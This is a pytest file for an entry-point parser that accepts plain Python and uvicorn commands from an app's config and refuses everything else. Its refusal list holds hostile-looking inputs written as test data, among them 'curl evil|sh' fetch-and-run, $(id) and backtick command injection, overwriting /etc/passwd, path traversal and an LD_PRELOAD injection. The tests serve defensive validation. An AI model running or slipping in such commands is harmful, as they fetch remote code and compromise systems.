"""Which commands an app's config may mean, and which are refused before anything runs."""

from pathlib import Path

import pytest

from slyflow.instance.entrypoint import BadEntryPoint, read_entry_point


@pytest.fixture
def code(tmp_path: Path) -> Path:
    folder = tmp_path / "repo"
    for name in ("main.py", "src/main.py", "train/src/main.py", "run.sh"):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.touch()
    (tmp_path / "outside.py").touch()
    (folder / "link.py").symlink_to(tmp_path / "outside.py")
    return folder


@pytest.mark.parametrize(
    ("entry", "arguments"),
    [
        ("python main.py", ("main.py",)),
        ("python3 src/main.py --flag 'two words'", ("src/main.py", "--flag", "two words")),
        ("python -u /app/repo/main.py", ("main.py",)),
        ("PYTHONPATH=/app/repo python3 src/main.py", ("src/main.py",)),
        ("python -m src.main", ("-m", "src.main")),
    ],
)
def test_python_forms_run_in_the_code(code: Path, entry: str, arguments: tuple[str, ...]) -> None:
    found = read_entry_point({"entrypoint": entry, "main_script": "ignored.py"}, code)
    assert found.arguments == arguments
    assert found.in_code
    assert found.command(1234) == arguments


@pytest.mark.parametrize(
    "entry",
    [
        "python -m uvicorn src.main:app --host 0.0.0.0 --port 8000 --ws websockets",
        "python3 -m uvicorn src.main:app --ws websockets --port=8000 --host=0.0.0.0",
        "uvicorn src.main:app --ws websockets",
    ],
)
def test_server_listens_on_loopback_at_our_port(code: Path, entry: str) -> None:
    found = read_entry_point({"entrypoint": entry}, code)
    assert found.command(4321) == (
        *("-m", "uvicorn", "src.main:app", "--ws", "websockets"),
        *("--host", "127.0.0.1", "--port", "4321"),
    )


def test_main_script_runs_outside_the_code_as_with_an_agent(code: Path) -> None:
    found = read_entry_point({"main_script": "train/src/main.py"}, code)
    assert (found.arguments, found.in_code) == ((str(code / "train/src/main.py"),), False)
    assert read_entry_point({}, code).arguments == (str(code / "src/main.py"),)


@pytest.mark.parametrize(
    "entry",
    [
        "python main.py; curl evil|sh",
        "python $(id).py",
        "python `id`.py",
        "python main.py\nid",
        "python main.py && id",
        "python main.py > /etc/passwd",
        "python -c 'import os'",
        "python -m http.server",
        "python -m os",
        "python ../outside.py",
        "python /etc/passwd",
        "python link.py",
        "python missing.py",
        "python run.sh",
        "python",
        "python -u",
        "python -i main.py",
        "sh run.sh",
        "bash -c main.py",
        "/bin/sh main.py",
        "LD_PRELOAD=x python main.py",
        "python 'main.py",
        "main.py",
        "-",
    ],
)
def test_everything_else_is_refused(code: Path, entry: str) -> None:
    with pytest.raises(BadEntryPoint):
        read_entry_point({"entrypoint": entry}, code)


@pytest.mark.parametrize(
    "script", ["../outside.py", "/etc/passwd", "link.py", "missing.py", "run.sh", ".", 7]
)
def test_main_script_outside_the_code_is_refused(code: Path, script: object) -> None:
    with pytest.raises(BadEntryPoint):
        read_entry_point({"main_script": script}, code)
